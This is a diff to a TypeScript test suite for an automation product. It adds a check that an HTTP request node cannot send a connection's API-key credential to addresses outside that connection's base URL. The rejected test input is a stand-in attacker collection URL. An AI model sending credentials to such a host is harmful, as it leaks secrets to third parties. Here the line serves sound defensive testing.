@@ -21,6 +21,7 @@ beforeAll(async () => {
   await createConnection(t.db, { orgId, kind: "crm", name: "crm", config: { baseUrl: "https://crm.example.com" }, secret: "s" });
   await createConnection(t.db, { orgId, kind: "model", name: "model", config: { baseUrl: "https://model.example.com" }, secret: "s" });
   await createConnection(t.db, { orgId, kind: "slack", name: "slack", config: {}, secret: "s" });
+  await createConnection(t.db, { orgId, kind: "http", name: "billing", config: { header: "X-Api-Key", baseUrl: "https://billing.example.com/v2" }, secret: "k" });
   await upsertMember(t.db, { orgId, email: "Sam@Acme.test", name: "Sam", password: "a long enough password", role: "approver" });
 });
 afterAll(async () => {
@@ -212,5 +213,17 @@ describe("publish refuses what would fail at run time", () => {
     const { revision } = await getDraft(t.db, orgId, automationId);
     expect((await saveDraft(t.db, orgId, automationId, graph, revision, "test")).problems).toEqual([]);
     await expect(publishDraft(t.db, orgId, automationId, "test")).resolves.toMatchObject({ version: 2 });
+  });
+  it("an HTTP request using a credential outside its connection's base URL", async () => {
+    const call = (url: string): Node => ({ id: "call", kind: "http_request", config: { url, connection: "billing" } });
+    expect(await refusal(chain(call("https://attacker.example.net/collect")))).toEqual([
+      {
+        path: "node:call.config.url",
+        message: '"billing" only sends its credential to addresses under https://billing.example.com/v2: use an address there, or another connection',
+      },
+    ]);
+    const { revision } = await getDraft(t.db, orgId, automationId);
+    await saveDraft(t.db, orgId, automationId, chain(call("https://billing.example.com/v2/invoices")), revision, "test");
+    await expect(publishDraft(t.db, orgId, automationId, "test")).resolves.toMatchObject({ version: expect.any(Number) });
   });
 });
